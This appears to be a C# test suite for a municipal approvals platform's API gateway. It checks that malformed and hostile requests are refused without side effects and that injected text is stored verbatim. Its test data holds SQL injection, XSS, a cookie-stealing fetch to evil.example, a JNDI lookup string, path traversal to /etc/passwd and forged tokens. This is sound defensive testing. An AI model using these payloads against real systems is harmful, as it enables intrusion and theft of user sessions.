using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Longgang.Approvals.Contracts.Events.V1;
using Longgang.Platform;

namespace Longgang.Gateway.Tests;

/// <summary>
/// A platform for the corpus, with one resource in every state a refusal needs (an application per lifecycle state,
/// a half-decided joint application, a case, a certification, a project) and a caller of every kind. Refused
/// requests change nothing, so every case shares these.
/// </summary>
public sealed partial class CorpusPlatformFixture : IsolatedPlatformFixture, IAsyncLifetime
{
    internal static readonly World Home = new("home", "district-01", "grid-01-01-1", "dept-market-supervision", "MS-002",
        ["application form", "identity card"], "citizen-corpus", "grid-corpus", "clerk-corpus", "HOME");

    private readonly Dictionary<string, string> _ids = new(StringComparer.Ordinal);
    private readonly Dictionary<string, HttpClient> _actors = new(StringComparer.Ordinal);

    /// <summary>Resource ids by placeholder name (the corpus writes "{in-review}" in a path or body).</summary>
    internal IReadOnlyDictionary<string, string> Ids => _ids;

    internal HttpClient Actor(string name) => _actors.TryGetValue(name, out var client)
        ? client
        : throw new ArgumentException($"No corpus actor '{name}'; actors are {string.Join(", ", _actors.Keys)}.", nameof(name));

    async ValueTask IAsyncLifetime.InitializeAsync()
    {
        await InitializeAsync();
        var home = new ApplicationFactory(this, Home);
        _actors["citizen"] = home.Citizen;
        _actors["grid"] = home.GridWorker;
        _actors["clerk"] = home.Clerk;
        _actors["other-citizen"] = Client(PlatformRoles.Citizen, subject: "citizen-stranger");
        _actors["foreign-clerk"] = Client(PlatformRoles.Clerk, department: "dept-social-affairs", subject: "clerk-social-affairs");
        _actors["hc-clerk"] = Client(PlatformRoles.Clerk, department: "dept-housing-construction", subject: "clerk-housing");
        _actors["supervisor"] = Client(PlatformRoles.Supervisor, department: Home.Department, subject: "supervisor-corpus");
        _actors["foreign-grid"] = Client(PlatformRoles.GridWorker, "district-02", subject: "grid-foreign");
        _actors["district-admin"] = Client(PlatformRoles.DistrictAdmin, Home.District, subject: "admin-corpus");
        _actors["foreign-district-admin"] = Client(PlatformRoles.DistrictAdmin, "district-02", subject: "admin-foreign");
        _actors["deputy"] = Client(PlatformRoles.Deputy, subject: "deputy-corpus");
        _actors["city-admin"] = Client(PlatformRoles.CityAdmin, subject: "city-admin-corpus");
        _actors["unknown-role"] = Client("emperor", subject: "emperor-1");
        _actors["anonymous"] = WithToken(null);
        _actors["garbage-token"] = WithToken("not.a.jwt");
        _actors["expired-token"] = WithToken(ForgedToken(expired: true));
        _actors["foreign-key-token"] = WithToken(ForgedToken(expired: false));
        _actors["role-less-token"] = WithToken(RoleLessToken());
        _actors["long-subject"] = Client(PlatformRoles.Citizen, subject: "citizen-" + new string('s', 60));
        _actors["busy-citizen"] = Client(PlatformRoles.Citizen, subject: "citizen-busy");

        foreach (var (name, state) in new[]
                 {
                     ("submitted", "SUBMITTED"), ("incomplete", "SUBMITTED_INCOMPLETE"), ("correction", "CORRECTION_REQUESTED"),
                     ("not-accepted", "NOT_ACCEPTED"), ("in-review", "IN_REVIEW"), ("extended", "EXTENDED"), ("suspended", "SUSPENDED"),
                     ("approved", "APPROVED"), ("issued", "ISSUED"), ("evaluated", "EVALUATED"), ("rectified", "RECTIFICATION_CLOSED"),
                 })
        {
            _ids[name] = await home.InStateAsync(state);
        }

        // a joint matter: the housing bureau has decided its step, natural resources and emergency management have not
        var joint = await ApplicationFactory.ExpectOkAsync(home.GridWorker, HttpMethod.Post, ApplicationFactory.Applications, new
        {
            matterCode = "HC-001",
            applicantId = Home.CitizenId,
            applicantName = Home.ApplicantName,
            channel = "CHANNEL_GRID_WORKER",
            districtCode = Home.District,
            materials = new[] { "application form", "land use certificate", "planning permit", "construction drawings review", "contractor contract" },
        });
        _ids["joint"] = joint.GetProperty("id").GetString()!;
        await ApplicationFactory.ConfirmOriginalsAsync(Actor("hc-clerk"), _ids["joint"],
            ["application form", "land use certificate", "planning permit", "construction drawings review", "contractor contract"]);
        await ApplicationFactory.StepAsync(_ids["joint"], Actor("hc-clerk"), "accept", new { });
        await ApplicationFactory.StepAsync(_ids["joint"], Actor("hc-clerk"), "decide", new { decision = "DECISION_APPROVE" });

        // one more application than a page may hold, for the case that asks for a huge page
        await Parallel.ForEachAsync(Enumerable.Range(0, PageToken.MaxPageSize + 1), new ParallelOptions { MaxDegreeOfParallelism = 4 },
            async (i, _) => await ApplicationFactory.ExpectOkAsync(Actor("busy-citizen"), HttpMethod.Post, ApplicationFactory.Applications,
                new { matterCode = "MS-001", applicantName = "Zhou Min", channel = "CHANNEL_ONLINE", materials = new[] { "application form" } }));

        // a scan the grid worker attached to the submitted application
        _ids["file"] = await ApplicationFactory.UploadAsync(home.GridWorker, $"{ApplicationFactory.Applications}/{_ids["submitted"]}/files?material=application%20form");

        await SeedGovernanceAsync(home);
        await SeedTalentAsync(home);
        await SeedLivelihoodAsync(home);
        _ids["unknown"] = Guid.NewGuid().ToString();
    }

    /// <summary>A path or body with its "{name}" placeholders replaced by the resource ids.</summary>
    internal string Resolve(string text) =>
        _ids.Aggregate(text, (current, id) => current.Replace("{" + id.Key + "}", id.Value, StringComparison.Ordinal));
}

[CollectionDefinition(Name)]
public sealed class CorpusCollection : ICollectionFixture<CorpusPlatformFixture>
{
    public const string Name = "bad-input corpus";
}

/// <summary>
/// One malformed or hostile request (issue 9). <see cref="Route"/> is the RPC whose REST route it targets
/// ("Service.Method"), or "gateway" for paths no service owns. <see cref="Status"/> is the exact status expected;
/// <see cref="Cause"/> is what the problem must name: for a 400 the field in <c>errors</c>, otherwise text of the
/// detail (null: any problem with a title). <see cref="ProblemBody"/> is false only for refusals Kestrel makes while
/// parsing the request line or headers, before any middleware can write a body. <see cref="Answer"/> checks what a
/// hostile request that is a valid read (200) returned: that its name's promise holds (e.g. the filter matched nothing).
/// </summary>
internal sealed record CorpusCase(string Name, string Route, string Actor, RawRequest Request, int Status, string? Cause,
    bool ProblemBody = true, bool Chunked = false, Action<JsonElement>? Answer = null)
{
    public override string ToString() => Name;
}

/// <summary>The corpus as it is written: one call per case.</summary>
internal sealed class CorpusCases : List<CorpusCase>
{
    public void Add(string route, string name, string actor, HttpMethod method, string path, string? body, int status, string? cause,
        string? contentType = "application/json", bool problem = true, bool chunked = false) =>
        Add(new CorpusCase($"{route}/{name}", route, actor, new RawRequest(method, path, body, contentType), status, cause, problem, chunked));

    public void Get(string route, string name, string actor, string path, int status, string? cause) =>
        Add(route, name, actor, HttpMethod.Get, path, null, status, cause);

    /// <summary>A hostile read that must answer 200, and what its answer must be.</summary>
    public void Read(string route, string name, string actor, string path, Action<JsonElement> answer) =>
        Add(new CorpusCase($"{route}/{name}", route, actor, new RawRequest(HttpMethod.Get, path), 200, null, Answer: answer));

    public void Post(string route, string name, string actor, string path, string? body, int status, string? cause, string? contentType = "application/json") =>
        Add(route, name, actor, HttpMethod.Post, path, body, status, cause, contentType);
}

internal static partial class Corpus
{
    private static readonly string PageTokenNegative = Uri.EscapeDataString(Convert.ToBase64String(BitConverter.GetBytes(-5)).TrimEnd('='));
    private static readonly string PageTokenForged = Uri.EscapeDataString("' OR 1=1 --");

    // built on first use, after every part of this partial class has initialised its fields
    private static readonly Lazy<IReadOnlyList<CorpusCase>> BuiltCases = new(Build);
    private static readonly Lazy<IReadOnlyDictionary<string, CorpusCase>> Names = new(() => All.ToDictionary(c => c.Name, StringComparer.Ordinal));

    public static IReadOnlyList<CorpusCase> All => BuiltCases.Value;

    public static IReadOnlyDictionary<string, CorpusCase> ByName => Names.Value;

    /// <summary>The template body with one property replaced (a raw JSON value, so it may be of any type).</summary>
    private static string With(string json, string property, string rawValue)
    {
        // spliced in as text, so the value may be anything, even JSON too deep for JsonNode to hold
        const string marker = "__corpus_slot__";
        var node = JsonNode.Parse(json)!.AsObject();
        node[property] = marker;
        const string slot = "\"" + marker + "\"";
        return node.ToJsonString().Replace(slot, rawValue, StringComparison.Ordinal);
    }

    private static string Without(string json, string property)
    {
        var node = JsonNode.Parse(json)!.AsObject();
        node.Remove(property);
        return node.ToJsonString();
    }

    private static string Str(string value) => JsonSerializer.Serialize(value);

    /// <summary>The answer's list <paramref name="property"/> (absent when empty, as proto3 JSON writes it) has no items.</summary>
    private static Action<JsonElement> Nothing(string property) => answer => Assert.True(Items(answer, property) == 0,
        $"'{property}' should be empty, has {Items(answer, property)} items: {answer}");

    /// <summary>The answer is a full page: exactly <paramref name="size"/> items of <paramref name="property"/> and a next page.</summary>
    private static Action<JsonElement> FullPage(string property, int size) => answer =>
    {
        Assert.True(Items(answer, property) == size, $"the page should hold {size} {property}, holds {Items(answer, property)}");
        Assert.False(string.IsNullOrEmpty(answer.TryGetProperty("nextPageToken", out var next) ? next.GetString() : null), "a full page names the next one");
    };

    private static int Items(JsonElement answer, string property) =>
        answer.TryGetProperty(property, out var items) ? items.GetArrayLength() : 0;

    private static string Str2(params string[] values) => JsonSerializer.Serialize(values);

    private static string Strings(int count, string value = "material") =>
        JsonSerializer.Serialize(Enumerable.Range(0, count).Select(i => $"{value} {i}"));

    private static IReadOnlyList<CorpusCase> Build()
    {
        var cases = new CorpusCases();

        ApprovalsCases(cases);
        GovernanceCases(cases);
        TalentCases(cases);
        LivelihoodCases(cases);
        MyDataCases(cases);

        // ---- each service's audit log: city admins only (a plain endpoint next to the transcoded routes) ----
        foreach (var service in DatabaseSnapshot.Services)
        {
            var route = $"{service}.AuditLog";
            var audit = $"/api/{service}/v1/audit";
            cases.Get(route, "by-a-clerk", "clerk", audit, 403, "city administrators");
            cases.Get(route, "by-a-citizen-for-someone-else", "citizen", $"{audit}?subject=citizen-stranger", 403, "city administrators");
            cases.Get(route, "page-size-negative", "city-admin", $"{audit}?pageSize=-1", 400, "pageSize");
            cases.Get(route, "page-size-above-a-hundred", "city-admin", $"{audit}?pageSize=101", 400, "pageSize");
            cases.Get(route, "page-size-not-a-number", "city-admin", $"{audit}?pageSize=lots", 400, "pageSize");
            cases.Get(route, "page-token-forged", "city-admin", $"{audit}?pageToken={PageTokenForged}", 400, "pageToken");
            cases.Get(route, "by-a-token-without-a-role", "role-less-token", audit, 403, null);
            cases.Get(route, "anonymous", "anonymous", audit, 401, null);
            cases.Get(route, "nul-character-in-subject", "city-admin", $"{audit}?subject=citizen%00", 400, "subject");
            cases.Read(route, "sql-in-subject-is-harmless", "city-admin", $"{audit}?subject={Uri.EscapeDataString("x' OR '1'='1")}", Nothing("entries"));
        }

        ContractCases(cases);

        // ---- paths no service owns ----------------------------------------------------------------------------------
        cases.Post("gateway", "unknown-verb", "clerk", Verb("submitted", "approve-everything"), "{}", 404, null);
        cases.Get("gateway", "unknown-service", "citizen", "/api/payments/v1/accounts", 404, null);
        cases.Get("gateway", "unknown-version", "citizen", "/api/approvals/v2/matters", 404, null);
        cases.Get("gateway", "unknown-path-anonymous", "anonymous", "/api/approvals/v1/secrets", 401, null);

        return cases.ToList();
    }

    /// <summary>A query parameter and a body property that no request message of the platform has.</summary>
    internal const string UnknownName = "notAField";

    /// <summary>Actors whose requests the gateway refuses before any service sees them.</summary>
    private static readonly HashSet<string> RefusedAtTheDoor = ["anonymous", "garbage-token", "expired-token", "foreign-key-token"];

    /// <summary>
    /// The API contract's refusals (issue 16), generated for every transcoded route from its <c>google.api.http</c> rule
    /// rather than written per route: an unknown query parameter, an unknown body property, and a body repeating a
    /// path id are each a 400 naming it. Each borrows the path and caller of a case written for the route, so the path
    /// holds real ids and the caller gets past authentication.
    /// </summary>
    private static void ContractCases(CorpusCases cases)
    {
        var written = cases.ToList();
        foreach (var (service, method, rule) in DownstreamServices.Catalogue
                     .SelectMany(entry => entry.Proto.Services)
                     .SelectMany(service => service.Methods.Select(method => (service, method, rule: method.GetOptions()?.GetExtension(Google.Api.AnnotationsExtensions.Http))))
                     .Where(m => m.rule is not null)
                     .Select(m => (m.service, m.method, m.rule!)))
        {
            var rpc = $"{service.Name}.{method.Name}";
            var route = PublicRoutes.Get(rpc);
            var template = written
                .Where(c => c.Route == rpc && !RefusedAtTheDoor.Contains(c.Actor) && !c.Chunked && c.Request.ContentType == "application/json"
                            && PublicRoutes.Fits(route, c.Request.Path))
                .OrderBy(c => c.Status == 400 ? 0 : 1)
                .FirstOrDefault();
            if (template is null) continue;
            var path = template.Request.Path.Split('?')[0];
            var verb = new HttpMethod(route.Method);
            var body = string.IsNullOrEmpty(rule.Body) ? null : "{}";
            cases.Add(rpc, "unknown-query-parameter", template.Actor, verb, $"{path}?{UnknownName}=1", body, 400, UnknownName);
            if (body is null) continue;
            cases.Add(rpc, "unknown-body-field", template.Actor, verb, path, $$"""{"{{UnknownName}}":1}""", 400, UnknownName);
            if (rule.Body != "*") continue;
            foreach (var pathField in Longgang.Platform.Errors.RequestShape.PathFields(rule).Where(f => !f.Contains('.')))
            {
                var jsonName = method.InputType.FindFieldByName(pathField)?.JsonName ?? pathField;
                cases.Add(rpc, $"path-id-{jsonName}-repeated-in-the-body", template.Actor, verb, path, $$"""{"{{jsonName}}":"x"}""", 400, jsonName);
            }
        }
    }
}

/// <summary>
/// Issue 9's corpus, run through the gateway: every case is refused with the expected 4xx (never a 5xx), with a
/// problem body naming the cause, and leaves every table of the four databases as it was. "As it was" means: no row
/// inserted, deleted or changed in any table (outbox and inbox included), compared after the background work of
/// earlier requests has settled; the delivery bookkeeping that the outbox relay and the notification dispatcher keep
/// on older rows is not compared (see <see cref="DatabaseSnapshot"/>); the only row a refusal may add is its own
/// audit entry, recording a refused outcome, when it reached a state-changing call.
/// The few hostile requests that are valid reads (SQL or script in a filter) answer 200 and change nothing either.
/// </summary>
[Collection(CorpusCollection.Name)]
public sealed class BadInputCorpusTests(CorpusPlatformFixture fixture)
{
    public static TheoryData<string> CaseNames => new(Corpus.All.Select(c => c.Name));

    [Fact]
    public void The_corpus_has_at_least_200_cases_with_unique_names_and_covers_every_REST_route()
    {
        Assert.True(Corpus.All.Count >= 200, $"only {Corpus.All.Count} cases");
        Assert.Equal(Corpus.All.Count, Corpus.ByName.Count);
        var uncovered = PublicRoutes.Everything.Where(r => !Corpus.All.Any(c => c.Route == r.Rpc)).Select(r => $"{r.Method} {r.Template} ({r.Rpc})").ToList();
        Assert.True(uncovered.Count == 0, "routes without a corpus case: " + string.Join(", ", uncovered));
        TestContext.Current.SendDiagnosticMessage($"bad-input corpus: cases {PublicRoutes.CountPerService(Corpus.All.Select(c => c.Route))}");
        foreach (var c in Corpus.All.Where(c => c.Route != "gateway"))
            Assert.True(PublicRoutes.Fits(PublicRoutes.Get(c.Route), c.Request.Path), $"{c.Name}: {c.Request.Path} is not a path of {c.Route}");
    }

    [Fact]
    public async Task The_quiet_check_knows_every_consumer_and_stops_every_scheduled_job()
    {
        // the 11 consumers of the services, the calendar's once per service
        Assert.True(fixture.Quiet.ConsumerCount >= 11, $"only {fixture.Quiet.ConsumerCount} consumers found on the bus");
        Assert.Equal(0, await fixture.Quiet.JobsThatRanWhileHeldAsync());
    }

    [Fact]
    public async Task The_quiet_snapshot_is_taken_after_every_consumer_of_a_new_event_has_applied_it()
    {
        var consumers = fixture.Quiet.ConsumersOf(typeof(ApplicationSubmitted));
        Assert.True(consumers > 0, "nothing consumes ApplicationSubmitted: pick another event");
        var before = await fixture.QuietSnapshotAsync();
        await ApplicationFactory.ExpectOkAsync(fixture.Actor("citizen"), HttpMethod.Post, ApplicationFactory.Applications,
            new { matterCode = "MS-001", applicantName = "Zhou Min", channel = "CHANNEL_ONLINE", materials = new[] { "application form" } });

        var after = await fixture.QuietSnapshotAsync();

        var recorded = after.RowDeltas(before).Where(d => d.Key.EndsWith(".inbox_messages", StringComparison.Ordinal)).Sum(d => d.Value);
        // every consumer of the submission (and of whatever else it set off) has recorded it in its inbox
        Assert.True(recorded >= consumers, $"{recorded} inbox rows recorded, {consumers} consumers take the submission");
    }

    [Theory]
    [MemberData(nameof(CaseNames))]
    public async Task Refused_with_a_problem_naming_the_cause_and_nothing_changed(string name)
    {
        var @case = Corpus.ByName[name];
        var request = @case.Request with { Path = fixture.Resolve(@case.Request.Path), Body = @case.Request.Body is { } b ? fixture.Resolve(b) : null };
        await using var jobsHeld = await fixture.Quiet.HoldJobsAsync();
        var before = await fixture.QuietSnapshotAsync();

        var actor = fixture.Actor(@case.Actor);
        RawResponse response;
        if (@case.Chunked)
        {
            response = await SendChunkedAsync(request, fixture.Platform.GatewayHttpAddress, actor.DefaultRequestHeaders.Authorization!.Parameter!);
        }
        else if (@case.Status == 413)
        {
            // refused before its body is read, the connection is closed after the answer: on a connection of its own,
            // so that no other case's request is sent on it meanwhile
            using var own = fixture.WithToken(actor.DefaultRequestHeaders.Authorization?.Parameter);
            response = await RawResponse.SendAsync(own, request);
        }
        else
        {
            response = await RawResponse.SendAsync(actor, request);
        }
        // what the request set off (events, consumers) has run its course before "after" is taken
        var after = await fixture.QuietSnapshotAsync();

        Assert.True(response.Status < 500, $"5xx: {response}");
        ProblemAssert.RevealsNothingInternal(ProblemAssert.WithoutCallerAddresses(response.Body), fixture.InternalAddresses);
        Assert.True(response.Status == @case.Status, $"expected {@case.Status}, got {response}");
        // a cause written in Chinese is looked for in this (default, zh-CN) answer; one in English, other than a
        // field name, in the English answer below
        var chineseCause = @case.Cause?.Any(c => c is >= '\u4e00' and <= '\u9fff') == true;
        var englishCause = !chineseCause && @case.Status is >= 400 and not 400 && @case.ProblemBody && !@case.Chunked;
        if (@case.Status >= 400 && @case.ProblemBody) Problems.AssertNamesCause(response, englishCause ? null : @case.Cause);
        if (@case.Status == 200) @case.Answer?.Invoke(response.Json());

        var changed = after.Differences(before).ToList();
        Assert.True(changed.Count == 0, "the request changed the database: " + string.Join("; ", changed));
        var audited = after.NewAuditEntries(before);
        Assert.True(audited.Count <= 1, "more than one audit entry for one request: " + string.Join("; ", audited));
        Assert.All(audited, entry => Assert.NotEqual("OK", entry.Outcome));

        // Chinese first (issue 16): the refusal reads in Chinese by default, and in English when asked
        if (@case.Status < 400 || !@case.ProblemBody || @case.Chunked) return;
        Problems.AssertLanguage(response, chinese: true, request);
        var english = request with { Headers = new Dictionary<string, string>(request.Headers ?? new Dictionary<string, string>()) { ["Accept-Language"] = "en" } };
        RawResponse answer;
        if (@case.Status == 413)
        {
            using var own = fixture.WithToken(actor.DefaultRequestHeaders.Authorization?.Parameter);
            answer = await RawResponse.SendAsync(own, english);
        }
        else
        {
            answer = await RawResponse.SendAsync(actor, english);
        }
        Assert.True(answer.Status == @case.Status, $"in English: expected {@case.Status}, got {answer}");
        Problems.AssertNamesCause(answer, chineseCause ? null : @case.Cause);
        Problems.AssertLanguage(answer, chinese: false, english);
    }

    /// <summary>
    /// HttpClient gives up sending once the server has answered early, so the chunked case is written on a raw socket:
    /// the whole request goes out, then the answer is read.
    /// </summary>
    private static async Task<RawResponse> SendChunkedAsync(RawRequest request, Uri gateway, string token)
    {
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(gateway.Host, gateway.Port);
        await using var stream = tcp.GetStream();
        var body = Encoding.UTF8.GetBytes(request.Body ?? "");
        var head = $"{request.Method} {request.Path} HTTP/1.1\r\nHost: {gateway.Authority}\r\nAuthorization: Bearer {token}\r\n" +
                   $"Content-Type: {request.ContentType}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
        var writing = Task.Run(async () =>
        {
            try
            {
                await stream.WriteAsync(Encoding.ASCII.GetBytes(head));
                foreach (var chunk in body.Chunk(8192))
                {
                    await stream.WriteAsync(Encoding.ASCII.GetBytes($"{chunk.Length:X}\r\n"));
                    await stream.WriteAsync(chunk);
                    await stream.WriteAsync("\r\n"u8.ToArray());
                }
                await stream.WriteAsync("0\r\n\r\n"u8.ToArray());
            }
            catch (IOException)
            {
                // the server may answer and close before the last chunk: that is its right
            }
        });
        // read as bytes: chunk sizes count bytes, and a Chinese problem body has more bytes than characters
        using var received = new MemoryStream();
        await stream.CopyToAsync(received);
        await writing;
        var bytes = received.ToArray();
        var headerEnd = bytes.AsSpan().IndexOf("\r\n\r\n"u8);
        var headLines = Encoding.ASCII.GetString(bytes, 0, headerEnd).Split("\r\n");
        var status = int.Parse(headLines[0].Split(' ')[1], System.Globalization.CultureInfo.InvariantCulture);
        var headers = headLines.Skip(1).Select(h => h.Split(':', 2)).ToDictionary(h => h[0].Trim().ToLowerInvariant(), h => h[1].Trim());
        var responseBody = bytes[(headerEnd + 4)..];
        if (headers.TryGetValue("transfer-encoding", out var te) && te.Contains("chunked", StringComparison.OrdinalIgnoreCase))
            responseBody = Dechunk(responseBody);
        var mediaType = headers.TryGetValue("content-type", out var ct) ? ct.Split(';')[0].Trim() : null;
        using var empty = new HttpResponseMessage();
        return new RawResponse(status, mediaType, Encoding.UTF8.GetString(responseBody), empty.Headers);
    }

    private static byte[] Dechunk(byte[] body)
    {
        using var result = new MemoryStream();
        var position = 0;
        while (position < body.Length)
        {
            var lineEnd = body.AsSpan(position).IndexOf("\r\n"u8);
            if (lineEnd < 0) break;
            lineEnd += position;
            var size = Convert.ToInt32(Encoding.ASCII.GetString(body, position, lineEnd - position).Split(';')[0], 16);
            if (size == 0) break;
            result.Write(body, lineEnd + 2, size);
            position = lineEnd + 2 + size + 2;
        }
        return result.ToArray();
    }
}

/// <summary>
/// Script and SQL fragments in free-text fields of otherwise valid requests are not refusals: they are accepted and
/// stored verbatim (escaping is the renderer's job, and parameterised queries make SQL text inert). Each case checks
/// the text comes back unchanged from the answer and from a later read, and that nothing else happened: the
/// resource's own table gained one row, only the tables its events and audit entry feed changed, no table shrank and
/// none appeared or vanished.
/// </summary>
[Collection(CorpusCollection.Name)]
public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixture)
{
    private const string A = "/api/approvals/v1/applications";

    internal sealed record HostileText(string Name, string Actor, string Path, object Body, string ReadPath,
        (string Field, object Expected)[] Fields, string GrowsByOne, string[] MayAlsoChange, bool NeedsFreshApplication = false);

    /// <summary>The dashboards' read model, in governance, takes every service's events.</summary>
    private static readonly string[] DashboardEffects = ["governance.inbox_messages", "governance.dashboard_facts", "governance.dashboard_counters"];

    private static readonly string[] SubmissionEffects =
    [
        "approvals.application_ledger", "approvals.outbox_messages", "approvals.inbox_messages", "approvals.notifications",
        "approvals.audit_log", .. DashboardEffects,
    ];

    private static readonly HostileText[] Texts =
    [
        new("script-and-sql-in-an-application", "citizen", A,
            new
            {
                matterCode = "MS-002", applicantName = "<script>alert('xss')</script>", channel = "CHANNEL_ONLINE",
                materials = new[] { "' OR '1'='1", "<img src=x onerror=alert(1)>", "Robert'); DROP TABLE applications;--" },
            },
            A + "/{id}",
            [("applicantName", "<script>alert('xss')</script>"),
             ("materials", new[] { "' OR '1'='1", "<img src=x onerror=alert(1)>", "Robert'); DROP TABLE applications;--" })],
            "approvals.applications", SubmissionEffects),
        new("bidi-emoji-and-han-in-an-applicant-name", "citizen", A,
            new { matterCode = "MS-002", applicantName = "龙港 🏙️ \u202Egnp.exe Ωmega", channel = "CHANNEL_ONLINE", materials = new[] { "application form" } },
            A + "/{id}", [("applicantName", "龙港 🏙️ \u202Egnp.exe Ωmega")],
            "approvals.applications", SubmissionEffects),
        new("markup-and-traversal-in-a-matter", "clerk", "/api/approvals/v1/matters",
            new
            {
                code = "CX-SAFE-1", name = "<b onmouseover=alert(1)>Matter</b>'--", departmentCode = "dept-market-supervision",
                kind = "MATTER_KIND_PROMISED", requiredMaterials = new[] { "%00", "../../etc/passwd", "${jndi:ldap://evil.example/a}" },
                statutoryLimitDays = 20, promisedLimitDays = 10, maxVisits = 1,
            },
            "/api/approvals/v1/matters/CX-SAFE-1",
            [("name", "<b onmouseover=alert(1)>Matter</b>'--"), ("requiredMaterials", new[] { "%00", "../../etc/passwd", "${jndi:ldap://evil.example/a}" })],
            "approvals.matters", ["approvals.audit_log"]),
        new("sql-script-and-header-injection-in-a-case", "grid", "/api/governance/v1/cases",
            new
            {
                gridCode = "grid-01-01-1", source = "CASE_SOURCE_GRID_PATROL", category = "'; DELETE FROM cases; --",
                description = "<script>fetch('//evil.example/'+document.cookie)</script>\r\nX-Injected: 1", photoRefs = new[] { "javascript:alert(1)" },
            },
            "/api/governance/v1/cases/{id}",
            [("category", "'; DELETE FROM cases; --"), ("description", "<script>fetch('//evil.example/'+document.cookie)</script>\r\nX-Injected: 1"),
             ("photoRefs", new[] { "javascript:alert(1)" })],
            // governance's hotspot detector reads every reported case (its own CaseReported)
            "governance.cases", ["governance.outbox_messages", "governance.audit_log", "governance.case_history", .. DashboardEffects]),
        new("sql-and-template-injection-in-a-certification", "citizen", "/api/talent/v1/certifications",
            new
            {
                tierCode = "D", applicantName = "Wang Fang", employer = "\"; DROP TABLE certifications; --", sector = "<svg/onload=alert(1)>",
                evidence = new[] { "{{constructor.constructor('alert(1)')()}}" }, channel = "TALENT_CHANNEL_INTERNAL_CULTIVATION",
            },
            "/api/talent/v1/certifications/{id}",
            [("employer", "\"; DROP TABLE certifications; --"), ("sector", "<svg/onload=alert(1)>"), ("evidence", new[] { "{{constructor.constructor('alert(1)')()}}" })],
            "talent.certifications", ["talent.outbox_messages", "talent.audit_log", .. DashboardEffects]),
        new("template-and-union-select-in-a-project", "citizen", "/api/livelihood/v1/projects",
            new
            {
                year = 2026, title = "{{7*7}} ${7*7} <%= 7*7 %>", category = "PROJECT_CATEGORY_HEALTH", districtCodes = new[] { "district-01" },
                estimatedCostYuan = "5000", rationale = "' UNION SELECT * FROM outbox_messages --\n<iframe src=//evil.example></iframe>",
            },
            "/api/livelihood/v1/projects/{id}",
            [("title", "{{7*7}} ${7*7} <%= 7*7 %>"), ("rationale", "' UNION SELECT * FROM outbox_messages --\n<iframe src=//evil.example></iframe>")],
            "livelihood.projects", ["livelihood.outbox_messages", "livelihood.audit_log", .. DashboardEffects]),
        new("script-in-a-reason-for-not-accepting", "clerk", A + "/{fresh}:notAccept",
            new { reason = "<script>alert(document.domain)</script> ' OR 1=1 --" },
            A + "/{fresh}", [("statusReason", "<script>alert(document.domain)</script> ' OR 1=1 --"), ("status", "APPLICATION_STATUS_NOT_ACCEPTED")],
            // talent reads every refusal to accept, for the claims it asked approvals to open; governance, for the cases
            // waiting on an application (flow 1) and the dashboards; the clerk's read of the application is in the read log
            "approvals.application_ledger", ["approvals.outbox_messages", "approvals.inbox_messages", "approvals.notifications", "approvals.audit_log",
                "approvals.personal_data_reads", "talent.inbox_messages", .. DashboardEffects],
            NeedsFreshApplication: true),
    ];

    public static TheoryData<string> Names => new(Texts.Select(t => t.Name));

    [Theory]
    [MemberData(nameof(Names))]
    public async Task Accepted_and_stored_verbatim_and_nothing_else_happens(string name)
    {
        var text = Texts.Single(t => t.Name == name);
        var fresh = text.NeedsFreshApplication ? await new ApplicationFactory(fixture, CorpusPlatformFixture.Home).SubmittedAsync() : "";
        var client = fixture.Actor(text.Actor);
        await using var jobsHeld = await fixture.Quiet.HoldJobsAsync();
        var before = await fixture.QuietSnapshotAsync();

        var written = await RawResponse.SendAsync(client,
            new RawRequest(HttpMethod.Post, text.Path.Replace("{fresh}", fresh, StringComparison.Ordinal), JsonSerializer.Serialize(text.Body)));
        Assert.True(written.Status == 200, $"a valid request with hostile text was not accepted: {written}");
        var id = written.Json().TryGetProperty("id", out var idProperty) ? idProperty.GetString()! : "";
        var read = await RawResponse.SendAsync(client, new RawRequest(HttpMethod.Get,
            text.ReadPath.Replace("{id}", id, StringComparison.Ordinal).Replace("{fresh}", fresh, StringComparison.Ordinal)));
        Assert.True(read.Status == 200, $"could not read it back: {read}");
        ProblemAssert.RevealsNothingInternal(ProblemAssert.WithoutCallerAddresses(written.Body), fixture.InternalAddresses);
        ProblemAssert.RevealsNothingInternal(ProblemAssert.WithoutCallerAddresses(read.Body), fixture.InternalAddresses);
        foreach (var (field, expected) in text.Fields)
        {
            var want = JsonSerializer.SerializeToElement(expected);
            Assert.True(JsonElement.DeepEquals(want, written.Json().GetProperty(field)), $"{field} was answered altered: {written}");
            Assert.True(JsonElement.DeepEquals(want, read.Json().GetProperty(field)), $"{field} was stored altered: {read}");
        }

        var after = await fixture.QuietSnapshotAsync();
        Assert.Equal(before.Tables.Keys.Order(), after.Tables.Keys.Order());
        var deltas = after.RowDeltas(before);
        Assert.True(deltas.GetValueOrDefault(text.GrowsByOne) == 1, $"{text.GrowsByOne} did not gain exactly one row: {Describe(deltas)}");
        var unexpected = deltas.Where(d => d.Key != text.GrowsByOne && (d.Value < 0 || !text.MayAlsoChange.Contains(d.Key))).ToList();
        Assert.True(unexpected.Count == 0, $"other tables changed: {Describe(unexpected)}");
        Assert.Empty(SchemaFit.Violations(fixture.Platform.Services, fixture.DataDirectory));
    }

    private static string Describe(IEnumerable<KeyValuePair<string, long>> deltas) =>
        string.Join(", ", deltas.Select(d => $"{d.Key} {d.Value:+#;-#;0}"));
}

/// <summary>
/// Duplicate submissions (issue 9) through every POST route that creates or changes something: the same request
/// again with the same <c>Idempotency-Key</c> is answered with the first answer and changes nothing (not even the
/// audit log: the repeat never reaches a service); the key with another body is a 422 problem and changes nothing;
/// an overlong key is a 400 naming the header. Depends on the gateway's Idempotency-Key support.
/// </summary>
[Collection(CorpusCollection.Name)]
[Trait("DependsOn", "gateway Idempotency-Key")]
public sealed class DuplicateSubmissionTests(CorpusPlatformFixture fixture)
{
    private const string Header = "Idempotency-Key";
    private const string A = "/api/approvals/v1/applications";

    internal sealed record Duplicate(string Name, string Actor, string Path, object Body, object OtherBody, bool NeedsFreshApplication = false);

    private static readonly Duplicate[] Duplicates =
    [
        new("ApprovalsService.SubmitApplication", "citizen", A,
            new { matterCode = "MS-002", applicantName = "Zhou Min", channel = "CHANNEL_ONLINE", materials = new[] { "application form" } },
            new { matterCode = "MS-002", applicantName = "Zhou Min", channel = "CHANNEL_ONLINE", materials = new[] { "identity card" } }),
